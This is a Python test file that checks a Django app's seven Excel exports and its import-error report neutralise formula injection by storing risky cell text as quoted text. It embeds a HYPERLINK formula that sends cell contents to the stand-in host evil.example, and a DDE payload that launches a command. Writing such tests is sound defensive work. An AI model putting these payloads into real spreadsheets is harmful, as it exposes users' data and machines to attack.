"""Finding 4 of issue 13: no text from a user becomes a live formula in any workbook we write. Every writer goes
through core/xlsx.py (`append_row` / `text_cell`); here the helper itself and each of the 7 exports with a hostile
value: the text comes back exactly as entered, typed as text with the quotePrefix style (Excel's leading apostrophe)."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.core.test_excel_import import spec
from tests.excel_files import xlsx
from tests.needs.conftest import fgw, fgw_project, raise_need, swj, swj_project  # noqa: F401
from zhaoshang.core.excel_import import error_workbook, validate_file
from zhaoshang.core.xlsx import FORMULA_START, append_row
from zhaoshang.meetings.services.actions import action_item_create
from zhaoshang.meetings.services.meetings import MeetingInput, meeting_create
from zhaoshang.plans.models import Plan
from zhaoshang.projects.models import Project

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutralised(content: bytes, hostile: str = HOSTILE) -> None:
    cells = _cells(content)
    assert any(isinstance(c.value, str) and hostile in c.value for c in cells), "the hostile text is in the workbook"
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert (cell.data_type, cell.quotePrefix) == ("s", True), (cell.coordinate, cell.value)


@pytest.mark.parametrize("write_only", [False, True])
def test_the_helper_keeps_numbers_and_writes_risky_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    values = ["=SUM(A1)", "+1", "-5%", "@SUM(A1)", "\tx", "\ry", -5, 3.5, "普通文字", "a=b", None]
    append_row(sheet, values)
    output = io.BytesIO()
    book.save(output)
    cells = list(load_workbook(io.BytesIO(output.getvalue())).active.iter_rows())[0]
    assert [c.value for c in cells][:10] == values[:10]
    assert [(c.data_type, c.quotePrefix) for c in cells[:6]] == [("s", True)] * 6
    assert (cells[6].data_type, cells[6].quotePrefix) == ("n", False)  # a negative number stays a number
    assert cells[8].quotePrefix is False and cells[9].quotePrefix is False


def test_project_export(office_client, fgw_project):
    Project.objects.filter(pk=fgw_project.pk).update(name=HOSTILE)
    assert_neutralised(office_client.get(reverse("projects:export")).content)


def test_need_export(office_client, raise_need, fgw_project, fgw):
    raise_need(fgw_project, fgw, title=HOSTILE[:60])
    assert_neutralised(office_client.get("/needs/export.xlsx").content, HOSTILE[:60])


def test_meeting_and_action_exports(office, office_client, fgw, fgw_project):
    import datetime

    meeting = meeting_create(actor=office, data=MeetingInput("review", datetime.date.today(), place="-1+1", chair="@SUM(A1)"))
    action_item_create(actor=office, meeting=meeting, owner_unit=fgw, due_date=datetime.date.today(), text=HOSTILE)
    assert_neutralised(office_client.get("/meetings/export.xlsx").content, "@SUM(A1)")
    assert_neutralised(office_client.get("/meetings/actions/export.xlsx").content)


def test_kpi_drill_export(office_client, swj_project):
    Project.objects.filter(pk=swj_project.pk).update(name=HOSTILE)  # signed today: in this year's signed projects
    day = Project.objects.get(pk=swj_project.pk).signed_on
    response = office_client.get(reverse("kpis:drill_export"), {"kind": "projects", "stage": "signed", "year": day.year,
                                                               "as_of": day.isoformat()})
    assert response.status_code == 200
    assert_neutralised(response.content)


def test_bulletin_workbook(office, demo):
    from zhaoshang.reports.bulletin_data import bulletin_collect
    from zhaoshang.reports.bulletin_xlsx import bulletin_xlsx

    Plan.objects.filter(pk=demo.pk).update(title="-2+3 " + HOSTILE)
    assert_neutralised(bulletin_xlsx(bulletin_collect(user=office, period="2025-07")))


@pytest.mark.django_db
def test_import_error_report():
    hostile = "@SUM(1+1)*cmd|' /C calc'!A0"
    report = validate_file(spec(), xlsx([["名称", "数量(万元)"], [hostile, "不是数字"], ["+甲", "abc"]]))
    assert_neutralised(error_workbook(report), hostile)
